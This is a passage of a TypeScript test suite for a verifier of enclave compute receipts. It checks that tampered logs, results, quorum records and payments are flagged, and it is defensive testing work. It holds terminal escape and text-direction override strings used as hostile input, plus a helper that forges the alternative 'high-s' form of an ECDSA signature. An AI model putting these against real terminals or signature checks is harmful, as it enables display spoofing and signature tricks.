    expect(reason("run", without("input.decrypted"))).to.match(place(/input\.decrypted/));
    expect(reason("run", changed("input.decrypted", { contentHash: other }))).to.match(place(/input\.decrypted/));
    for (const field of ["programId", "engineSha256", "paramsHash"])
      expect(reason("run", changed("program.ran", { [field]: other })), field).to.match(place(/program\.ran/));
    expect(reason("run", changed("input.destroyed", { count: 1 }))).to.match(place(/input\.destroyed 2/));
    expect(reason("run", changed("result.sealed", { resultHash: other }))).to.match(place(/result\.sealed/));
    const toEnd = (type: string) =>
      withEntries((es) => [...es.filter((entry) => entry.type !== type), ...es.filter((entry) => entry.type === type)]);
    expect(reason("run", toEnd("program.ran"))).to.match(place(/program\.ran/));
    const late = withEntries((es) => [...es.slice(0, 6), ...es.slice(2, 4), ...es.slice(6)]);
    expect(reason("run", late)).to.equal("not verified: a grant was checked after a key was opened");
    const twice = withEntries((es) => [...es, ...es.slice(-1)]);
    expect(reason("run", twice)).to.equal("not verified: there is more than the run");
    const again = withEntries((es) => [...es, { type: "key.signed", digest: other }, ...es.slice(2)]);
    expect(reason("run", again)).to.equal("verified: 9 entries under the receipt's root, after 1 attempts");
    expect(reason("history", again)).to.match(/^verified: all 22 entries .*; 18 are about the job$/);
    expect(falseLines(again)).to.have.all.keys("receipt.signature");

    const spied = (entry: object) =>
      reason(
        "history",
        withEntries((es, { jobId }) => [...es.slice(0, 2), { jobId, ...entry } as NewLogEntry, ...es.slice(2)]),
      );
    const opened = { type: "key.opened", grantHash: other, datasetId: other };
    expect(spied(opened)).to.equal(`not verified: for this job, it has: key.opened ${other} ${other}`);
    expect(spied({ type: "grant.checked", grantHash: other, anchorHash: other })).to.match(/it has: grant\.checked/);
    expect(
      spied({ ...opened, type: "input.decrypted", grantHash: undefined, contentHash: other, plainBytes: 1 }),
    ).to.match(/it has: input\.decrypted/);
    const ran = { engineSha256: other, paramsHash: other, printsCommitment: other };
    expect(spied({ type: "program.ran", programId: other, ...ran })).to.match(/it has: program\.ran/);
    expect(spied({ type: "input.destroyed", count: 3 })).to.match(/it has: input\.destroyed 3/);
    expect(spied({ type: "data.exported" })).to.equal("not verified: Entry 3 of the log is of no known kind.");

    const direct = (change: (log: WholeLog) => void) => (e: Whole) => change(logOf(e));
    // A run whose steps came in another order than they should is not shown in the right one.
    const swapped = (e: Whole) => {
      toEnd("program.ran")(e);
      logOf(e).entries.splice(6, 0, ...logOf(e).entries.splice(-1));
    };
    expect(reason("run", swapped)).to.match(/^not verified: Log refused: entry \d+ is shown behind entry \d+\.$/);
    const hidden = direct((log) => void log.entries.splice(3, 1));
    expect(reason("history", hidden)).to.equal("not verified: it has entries about the job that are not shown");
    expect(
      reason(
        "history",
        direct((log) => void log.all.pop()),
      ),
    ).to.equal("not verified: Log refused: the 11 entries shown are not those that the receipt commits to.");
    const reboot = withEntries((es) => [...es, JSON.parse(logOf(honest).all[0] ?? "")]);
    expect(reason("history", reboot)).to.equal("not verified: it has more than one boot");
    expect(
      reason(
        "history",
        direct((log) => Object.assign(log, { all: { missing: "too long" } })),
      ),
    ).to.equal("cannot be verified: too long");
    for (const [id, part] of [
      ["log", (log: WholeLog) => log.boot],
      ["run", (log: WholeLog) => log.entries[2]],
    ] as const) {
      const altered = (fields: (entry: ProvenEntry) => object) =>
        reason(
          id,
          direct((log) => Object.assign(part(log) ?? {}, fields(part(log) as ProvenEntry))),
        );
      for (const fields of [
        (entry: ProvenEntry) => ({ index: entry.index + 1 }),
        (entry: ProvenEntry) => ({ entry: `${entry.entry} ` }),
        (entry: ProvenEntry) => ({ proof: entry.proof.slice(1) }),
        (entry: ProvenEntry) => ({ proof: entry.proof.with(0, other) }),
      ])
        expect(altered(fields)).to.match(/^not verified: Log refused: entry \d+ is not under the receipt's root of 12/);
    }

    const growth = (change: (other: SignedWord) => void) =>
      reason(
        "growth",
        direct((log) => change(log.other as SignedWord)),
      );
    const notIts = "not verified: Log refused: the other word that is shown is not signed by the receipt's key.";
    for (const field of ["root", "anchorHash"])
      expect(growth(({ head }) => Object.assign(head, { [field]: other }))).to.equal(notIts);
    expect(growth(({ head }) => (head.size += 1n))).to.equal(notIts);
    const twoLogs = "not verified: Log refused: its key signed two logs, of 12 and 13 entries, that are not one.";
    expect(growth((word) => word.proof.splice(0, 1))).to.equal(twoLogs);
    expect(growth((word) => (word.proof = word.proof.with(0, other)))).to.equal(twoLogs);
    const forked = { root: other, size: 13n, anchorBlock: 1n, anchorHash: other };
    const signature = await story.enclave.signingKey.sign({ hash: hashLogHead(story.requester.marketDomain, forked) });
    expect(growth((word) => (word.head = { ...forked, signature }))).to.equal(twoLogs);
  });

  it("result: another ciphertext, a further reader, another output", async () => {
    const encrypter = new Encrypter();
    for (let count = 0; count < 3; count++)
      encrypter.addRecipient(await identityToRecipient(await generateX25519Identity()));
    const third = await encrypter.encrypt("{}");
    const swap = (bytes: Uint8Array) => (e: Whole) => {
      e.worker.result = bytes;
      e.settlement.receipt.resultHash = sha256(bytes);
    };
    expect(falseLines((e) => (e.worker.result = third))["result.sealed"]).to.equal("it has another SHA-256");
    expect(falseLines(swap(third))["result.readers"]).to.equal("it is sealed to 3 readers, 2 are agreed");
    expect(falseLines(swap(new Uint8Array(9)))["result.readers"]).to.equal("it is not an age file");
    const output = (opened: Evidence["opened"]) => lineOf("result.output", (e) => (e.opened = opened));
    expect(output({ commitment: other })).to.equal("not verified: its commitment is another");
    expect(output({ problem: "what is sealed is no result" })).to.equal("not verified: what is sealed is no result");
  });

  it("quorum: as many enclaves as agreed, on other platforms, with the same output; all operators are paid", () => {
    const { outputCommitment } = honest.settlement.receipt;
    const record = { operator: stranger.address, workloadId: other, platformId: other, state: 1, evidenceHash: other };
    const counted =
      (change: object = {}, recordChange: object = {}) =>
      (e: Whole) => {
        e.opening.order.quorum = 2;
        const position = { block: honest.anchor, logIndex: 0 };
        const own = { signer: stranger.address, platformId: other, receiptHash: other, outputCommitment };
        e.counted = [{ ...position, ...own, ...change, record: { ...record, ...recordChange } }];
      };
    const quorum = (change: (e: Whole) => void) => lineOf("receipt.quorum", change);
    expect(quorum(counted())).to.match(/^verified: 2 equal output commitments/);
    expect(quorum(counted({ outputCommitment: other }))).to.equal("not verified: one said something else");
    const { platformId } = honest.registration;
    expect(quorum(counted({ platformId }, { platformId }))).to.equal("not verified: two of them run on one platform");
    expect(quorum(counted({ platformId }))).to.equal(
      "not verified: the market counted another platform than is registered",
    );
    expect(quorum((e) => (e.opening.order.quorum = 2))).to.equal("not verified: 1 enclaves were counted, 2 are agreed");
    expect(quorum(() => {})).to.equal("undefined: undefined");
    expect(falseLines(counted())["money.paid"]).to.equal(
      `${stranger.address.toLowerCase()} was credited 0, not 500000`,
    );
  });

  it("money: too little escrowed, paid to others, twice, elsewhere or in another token", () => {
    const paid = (change: (e: Whole) => void) => falseLines(change)["money.paid"];
    const taken = (change: Partial<PayerCredit>) =>
      lineOf("money.escrow", (e) => Object.assign(e.opening.payerCredit, change));
    expect(taken({})).to.match(/^verified: from 0x.*; 2500001 paid in with the transaction$/);
    expect(taken({ after: 1n })).to.equal("not verified: the payer's credit came to 1, not 0");
    expect(taken({ taken: 0n })).to.equal("not verified: the payer's credit came to 0, not 2500001");
    expect(taken({ arrived: 2_500_000n })).to.equal("not verified: 2500001 were credited as paid in, 2500000 arrived");
    expect(taken({ before: 2_500_001n, added: 0n, paidIn: 0n })).to.match(/^verified: from the credit of 0x/);
    expect(taken({ arrived: { missing: "through a wallet contract" } })).to.equal(
      "cannot be verified: through a wallet contract",
    );
    const [first] = honest.credits;
    if (first === undefined) throw new Error("no credits");
    const owner = first.account.toLowerCase();
    const owners = honest.datasets.map(({ registration }) =>
      isMissing(registration) ? undefined : registration.owner,
    );
    expect(paid((e) => e.credits.shift())).to.equal(`${owner} was credited 0, not 1000000`);
    expect(paid((e) => e.credits.push(first))).to.equal(`${owner} was credited 2000000, not 1000000`);
    expect(paid((e) => Object.assign(e.credits[0] ?? {}, { account: stranger.address }))).to.match(
      /was credited 0, not 1000000$/,
    );
    expect(paid((e) => Object.assign(e.credits[0] ?? {}, { token: zeroAddress }))).to.equal(
      "another token was credited",
    );
    expect(paid((e) => Object.assign(e.credits[0] ?? {}, { transactionHash: other }))).to.equal(
      "money was credited in another transaction",
    );
    // Splits, rounded down, the rest to the last; a bond; metered prices; and what the payer has back.
    const dues = (change: (e: Whole) => void) => {
      const evidence = structuredClone(honest);
      change(evidence);
      const due = duesOf(evidence);
      if (isMissing(due)) throw new Error(due.missing);
      return due.map(({ account, amount }) => `${account.slice(0, 6)}: ${amount}`);
    };
    const { requester } = honest.opening.order;
    const [mine, operatorOf] = [requester.slice(0, 6), honest.registration.operator.slice(0, 6)];
    const b = owners[1]?.slice(0, 6);
    expect(dues(() => {})).to.deep.equal([
      `${operatorOf}: 500000`,
      `${owners[0]?.slice(0, 6)}: 1000000`,
      `${b}: 1000001`,
      `${mine}: 0`,
    ]);
    const payees = [3333, 6667].map((shareBps, i) => ({ account: i === 0 ? stranger.address : requester, shareBps }));
    const split = (e: Whole) => Object.assign(e.datasets[1]?.registration ?? {}, { payees });
    expect(dues(split))
      .to.include(`${stranger.address.slice(0, 6)}: 333300`)
      .and.to.include(`${mine}: 666701`);
    const accepted = (e: Whole) => {
      e.acceptance = { signer: stranger.address, bonder: stranger.address };
      e.opening.order.bond = 7n;
    };
    expect(dues(accepted).at(-1)).to.equal(`${stranger.address.slice(0, 6)}: 7`);
    const offered = (e: Whole) => {
      const prices = { fee: 1n, pricePerSecond: 10n };
      e.settlement.offer = { offer: prices as Offer, signature: "0x" };
      e.settlement.receipt.runSeconds = 3;
      e.settlement.together = [e.settlement.receipt];
    };
    expect(dues(offered)[0]).to.equal(`${operatorOf}: 31`);
    expect(dues(offered).at(-1)).to.equal(`${mine}: ${500_000 - 31}`);
    const expired = (e: Whole) => {
      accepted(e);
      e.ending.how = "expired";
    };
    expect(dues(expired)).to.deep.equal([`${mine}: 2500001`, `${mine}: 7`]);
    const disagreed = (e: Whole) => (e.ending.how = "disagreed");
    expect(dues(disagreed)).to.deep.equal([`${mine}: 2500001`]);
    const noCredit = (e: Whole) => Object.assign(e.opening, { payerCredit: { missing: "the RPC does not tell" } });
    expect(lineOf("money.escrow", noCredit)).to.equal("cannot be verified: the RPC does not tell");
  });

  it("says what is missing instead of failing when evidence is not there", () => {
    const missing = { missing: "not here" };
    const evidence: Evidence = {
      ...honest,
      settlement: { ...honest.settlement, grants: missing },
      registration: { ...honest.registration, call: missing },
      receiptAnchor: missing,
      program: missing,
      worker: { attestation: missing, result: missing, log: missing },
      opened: missing,
    };
    const lines = judge(evidence);
    expect(lines.filter((line) => line.verdict === "not verified")).to.deep.equal([]);
    for (const id of [
      "attestation.signature",
      "attestation.binding",
      "code.compose",
      "consent.1.grant",
      "receipt.anchor",
    ])
      expect(lines.find((line) => line.id === id)).to.include({ verdict: "cannot be verified", reason: "not here" });
  });

  it("takes times past what a date holds", () => {
    const far = 2n ** 64n - 1n;
    expect(lineOf("attestation.live", (e) => (e.registration.expiresAt = far))).to.match(
      /^verified: .*after the year 9999$/,
    );
    const forever = (e: Whole) => Object.assign(e.settlement.grants[0]?.grant ?? {}, { notAfter: far });
    expect(lineOf("consent.1.force", forever)).to.match(/to after the year 9999, not revoked before$/);
  });

  it("makes strangers' text harmless", () => {
    const shown = lineOf("code.launch", withCompose({ allowed_envs: ["\u001b[31m\u202e".repeat(300)] }));
    expect(shown).to.match(/^not verified: the host may set/);
    expect(shown).to.not.match(/\p{Cc}|\p{Cf}/u);
    const uri = lineOf("code.program", (e) => (e.program = { missing: "\u001b[2J".repeat(500) }));
    expect(uri).to.not.match(/\p{Cc}/u);
    expect(uri.length).to.be.lessThan(450);
  });
});

/** The other valid s of an ECDSA signature. */
function highS(signature: Hex): Hex {
  const order = 0xfffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141n;
  const s = (order - BigInt(`0x${signature.slice(66, 130)}`)).toString(16).padStart(64, "0");
  return `${signature.slice(0, 66)}${s}${signature.endsWith("1b") ? "1c" : "1b"}` as Hex;
}
